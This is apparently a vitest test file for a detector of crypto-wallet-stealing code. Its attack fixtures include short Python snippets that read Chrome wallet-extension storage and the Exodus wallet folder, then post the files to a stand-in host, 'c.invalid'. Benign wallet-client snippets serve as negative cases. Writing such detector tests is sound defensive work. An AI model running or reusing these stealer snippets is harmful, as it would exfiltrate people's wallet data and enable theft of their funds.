import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-wallet.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

const IDS =
  '["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "hnfanknocfeofbddgcijnmhnfnkdnaad"]'

test.each([
  [
    'extensions sent out',
    `import os, requests\nfor i in ${IDS}:\n  p = os.path.join(os.path.expanduser("~"), ".config/google-chrome/Default/Local Extension Settings", i)\n  for f in os.listdir(p):\n    requests.post("https://c.invalid", files={"f": open(p + "/" + f, "rb")})`,
    /^decisive 13 a\.py/,
  ],
  [
    'a wallet’s folder',
    'import os, shutil, requests\nz = shutil.make_archive("/tmp/e", "zip", os.environ["APPDATA"] + "/Exodus/exodus.wallet")\nrequests.post("https://c.invalid", files={"f": open(z, "rb")})',
    /^decisive 13 a\.py:2/,
  ],
])('attack: %s', async (_, code, expected) => {
  expect((await seen({ 'a.py': code }))[0]).toMatch(expected)
})

test.each([
  [
    'a wallet that knows its own id',
    {
      'a.js':
        "export const ID = 'nkbihfbeogaeaoehlefnkodbefgpgknn'\nchrome.runtime.sendMessage(ID, { method: 'ping' })\nfetch('https://api.example/x', { method: 'POST', body: '1' })",
    },
  ],
  [
    'a client of a node',
    { 'a.py': 'import requests\nrequests.post("https://node.example", json={"wallet": "exodus"})' },
  ],
])('innocent: %s', async (_, files) => {
  const found = await seen(files)
  expect(found.every((hit) => hit.startsWith('context'))).toBe(true)
})
